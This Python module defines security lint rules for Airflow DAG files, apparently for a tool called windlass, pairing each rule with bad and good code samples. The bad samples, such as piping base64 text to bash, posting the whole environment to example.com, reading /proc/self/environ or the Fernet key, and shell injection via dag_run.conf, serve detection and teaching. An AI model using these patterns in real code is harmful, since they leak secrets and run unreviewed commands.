"""Rules of the family security: what does harm in Airflow."""

from windlass.domain.finding import FindingType, Severity
from windlass.domain.rule import Rule, Waiving

_BASH = "from airflow.providers.standard.operators.bash import BashOperator\n\n"
_EVERY_PARSE = (
    "Airflow imports the file every few seconds, in the process that reads everybody's DAGs."
)


def _rule(
    code: str,
    severity: Severity,
    what: str,
    why: str,
    mend: str,
    *,
    bad: str,
    good: str,
    waiving: Waiving = Waiving.INLINE,
) -> Rule:
    return Rule(
        code=code,
        family="security",
        type=FindingType.DANGEROUS_OPERATION,
        severity=severity,
        what=what,
        why=why,
        mend=mend,
        bad={"orders.py": bad},
        good={"orders.py": good},
        waiving=waiving,
    )


RULES = (
    _rule(
        "DNG001",
        Severity.HIGH,
        "A process is started at import, or through a shell",
        f"{_EVERY_PARSE} What a file starts there runs with its rights, again and again. In a task "
        "only a shell is advised against (medium): its text is easily steered by what it is given.",
        "Do it in a task: BashOperator, @task.bash, or subprocess.run with a list of arguments.",
        bad='import os\n\nos.system("git pull")\n',
        good='import subprocess\n\n\ndef pull():\n    subprocess.run(["git", "pull"])\n',
    ),
    _rule(
        "DNG002",
        Severity.HIGH,
        "Text is run as Python",
        "Whoever can change the text, such as an Airflow variable, runs code as Airflow. High at "
        "import, medium in a task.",
        "Read data with json.loads or ast.literal_eval; choose functions from a dictionary.",
        bad='import os\n\nCONFIG = eval(os.environ["CONFIG"])\n',
        good='import json\nimport os\n\nCONFIG = json.loads(os.environ["CONFIG"])\n',
    ),
    _rule(
        "DNG003",
        Severity.HIGH,
        "Data is read in a way that runs what it says",
        "pickle, marshal, shelve, joblib and unsafe YAML make objects of any kind, by calling any "
        "function that the data names. High at import, medium in a task.",
        "Read data with json.loads or yaml.safe_load; load models from a place you trust.",
        bad='import yaml\n\nCONFIG = yaml.load(open("config.yaml"))\n',
        good='import yaml\n\nCONFIG = yaml.safe_load(open("config.yaml"))\n',
    ),
    _rule(
        "DNG004",
        Severity.HIGH,
        "Files are deleted at import, or whole folders in a task",
        f"{_EVERY_PARSE} What is deleted there may be another team's. In a task a whole folder is "
        "medium, single files are nothing.",
        "Use tempfile.TemporaryDirectory in a task.",
        bad='import shutil\n\nshutil.rmtree("/tmp/cache")\n',
        good="import tempfile\n\n\ndef load():\n"
        "    with tempfile.TemporaryDirectory() as folder:\n        print(folder)\n",
    ),
    _rule(
        "DNG005",
        Severity.HIGH,
        "The file speaks to the network while it is imported, or by a socket of its own",
        f"{_EVERY_PARSE} A server that is slow makes all DAGs late; a socket of one's own is how "
        "data is carried away. Requests at import are medium, sockets high, sockets in a task "
        "medium. Requests and SDKs in tasks are fine.",
        'Ask in a task, through a hook with a connection: HttpHook(http_conn_id="api").',
        bad='import socket\n\nsocket.create_connection(("db", 5432))\n',
        good='import requests\n\n\ndef load():\n    return requests.get("https://x.org")\n',
    ),
    _rule(
        "DNG006",
        Severity.HIGH,
        "Native code is called by hand",
        "It passes by everything that Python and Airflow look after, and a fault ends the process. "
        "High at import, medium in a task.",
        "Use a package that offers it to Python, installed with Airflow's image.",
        bad='import ctypes\n\nlibc = ctypes.CDLL("libc.so.6")\n',
        good="import os\n\nPID = os.getpid()\n",
    ),
    _rule(
        "DNG007",
        Severity.HIGH,
        "Code is disguised",
        "A name in parts, text in base64 that is run, the globals of a function: whatever needs "
        "that does not want to be read. It is high in a task too.",
        "Write the name and the code as they are.",
        bad='import os\n\n\ndef load():\n    getattr(os, "sys" + "tem")("id")\n',
        good="import os\n\n\ndef load():\n    return os.getcwd()\n",
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG008",
        Severity.HIGH,
        "The file reaches into Airflow's own database",
        "There are everybody's connections, runs and users. Airflow 3 refuses it to tasks; before, "
        "it worked, and one wrong query stopped the scheduler. Asking a model of Airflow in a task "
        "is medium, and so are modules of tests (test_*.py, conftest.py).",
        "Ask Airflow's REST API, or use Variable, XCom and the context that a task is given.",
        bad="from airflow.utils.session import create_session\n\n\ndef load():\n"
        '    with create_session() as session:\n        session.execute("select 1")\n',
        good="def load(dag_run, ti):\n    return dag_run.run_id, ti.task_id\n",
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG009",
        Severity.HIGH,
        "The socket of Docker is used",
        "Whoever reaches it can start a container with the machine's whole disk, which is to own "
        "the machine.",
        "Use KubernetesPodOperator, or a Docker connection over TLS: docker_conn_id.",
        bad='from docker.types import Mount\n\nD = Mount("/d", "/var/run/docker.sock")\n',
        good='from docker.types import Mount\n\nDATA = Mount("/data", "/srv/data")\n',
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG010",
        Severity.HIGH,
        "The file reads secrets of the machine or of Airflow",
        "The process's environment, airflow.cfg, the pod's token and the metadata service of the "
        "cloud open far more than one DAG needs.",
        "Use a connection of your own, or the identity that the provider's hook takes by itself.",
        bad='def load():\n    return open("/proc/self/environ").read()\n',
        good='import os\n\n\ndef load():\n    return os.environ["REGION"]\n',
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG011",
        Severity.HIGH,
        "The file reads Airflow's own keys from its configuration",
        "With the Fernet key or the database's address whoever has them has every connection.",
        "Use a connection of your own.",
        bad="from airflow.configuration import conf\n\n\ndef load():\n"
        '    return conf.get("core", "fernet_key")\n',
        good='from airflow.configuration import conf\n\nFOLDER = conf.get("core", "dags_folder")\n',
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG012",
        Severity.HIGH,
        "A part of Airflow or Python is replaced",
        "It is replaced for all code in the process: other DAGs, and Airflow itself. What replaces "
        "a function of Python such as os.remove is medium.",
        "Derive a class of your own, or wrap the function where you call it.",
        bad="from airflow.models.baseoperator import BaseOperator\n\n"
        "BaseOperator.execute = lambda self, context: None\n",
        good="from airflow.models.baseoperator import BaseOperator\n\n\n"
        "class Load(BaseOperator):\n    def execute(self, context):\n        pass\n",
        waiving=Waiving.CONTROL,
    ),
    _rule(
        "DNG013",
        Severity.HIGH,
        "A thread or process is started at import",
        f"{_EVERY_PARSE} What was started there goes on when the import has ended.",
        "Start it in a task.",
        bad="import threading\n\nthreading.Thread(target=print).start()\n",
        good="import threading\n\n\ndef load():\n    threading.Thread(target=print).start()\n",
    ),
    _rule(
        "DNG014",
        Severity.HIGH,
        "Signals, tracing or limits of the process are changed",
        "Airflow ends an import that hangs by a signal; with another handler it cannot. High at "
        "import, medium in a task; code left behind with atexit is medium at import.",
        "Leave it out: give a task execution_timeout.",
        bad="import signal\n\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n",
        good="from datetime import timedelta\n\nLIMIT = timedelta(minutes=5)\n",
    ),
    _rule(
        "DNG015",
        Severity.HIGH,
        "The import ends the process",
        "No DAG of the file is seen then, and Airflow tells no import error that says why.",
        "Let the file make no DAG, or raise an error that says what is missing.",
        bad="import sys\n\nsys.exit(1)\n",
        good='import os\n\nif "REGION" not in os.environ:\n    raise LookupError("set REGION")\n',
    ),
    _rule(
        "DNG016",
        Severity.MEDIUM,
        "A variable or connection is asked for at import",
        f"{_EVERY_PARSE} Each time it asks the database or the secrets backend.",
        'Use it where it is needed: "{{ var.value.name }}" in a template, or in a task.',
        bad='from airflow.sdk import Variable\n\nENV = Variable.get("env")\n',
        good='from airflow.sdk import Variable\n\n\ndef load():\n    return Variable.get("env")\n',
    ),
    _rule(
        "DNG017",
        Severity.MEDIUM,
        "What the trigger of a run says becomes part of a shell command",
        "Whoever may trigger the DAG may then run any command as Airflow.",
        "Pass it by env, and use it in quotes.",
        bad=_BASH + 'BashOperator(task_id="a", bash_command="run {{ dag_run.conf[\'day\'] }}")\n',
        good=_BASH + "BashOperator(\n"
        '    task_id="a",\n    bash_command=\'run "$DAY"\',\n'
        "    env={'DAY': '{{ dag_run.conf.day }}'},\n)\n",
    ),
    _rule(
        "DNG018",
        Severity.HIGH,
        "A shell command does harm, or runs what nobody read",
        "Connections that give a shell away, scripts in base64, deleting everything. A script that "
        "is downloaded and run at once is medium.",
        "Run scripts that are in the repository or in the image.",
        bad=_BASH + 'BashOperator(task_id="a", bash_command="echo aWQ= | base64 -d | bash")\n',
        good=_BASH + 'BashOperator(task_id="a", bash_command="bash scripts/load.sh")\n',
    ),
    _rule(
        "DNG019",
        Severity.HIGH,
        "The import waits, or never ends",
        f"{_EVERY_PARSE} A loop without an end is high, a wait medium.",
        "Wait in a sensor, or loop in a task.",
        bad="while True:\n    pass\n",
        good="for day in range(7):\n    pass\n",
    ),
    _rule(
        "DNG020",
        Severity.HIGH,
        "The whole environment is sent away or logged",
        "Connections, keys and tokens are in it. Sending it is high, logging it medium.",
        "Name the values that are needed.",
        bad="import os\nimport requests\n\n\ndef load():\n"
        '    requests.post("https://example.com", json=dict(os.environ))\n',
        good="import os\n\n\ndef load():\n    print(os.environ['REGION'])\n",
    ),
    _rule(
        "DNG021",
        Severity.MEDIUM,
        "Files are changed at import",
        f"{_EVERY_PARSE} Code and settings that are run later are high: nobody checked them.",
        "Write files in a task.",
        bad='from pathlib import Path\n\nPath("/tmp/state.json").write_text("{}")\n',
        good="from pathlib import Path\n\n\ndef load():\n"
        '    Path("/tmp/state.json").write_text("{}")\n',
    ),
)
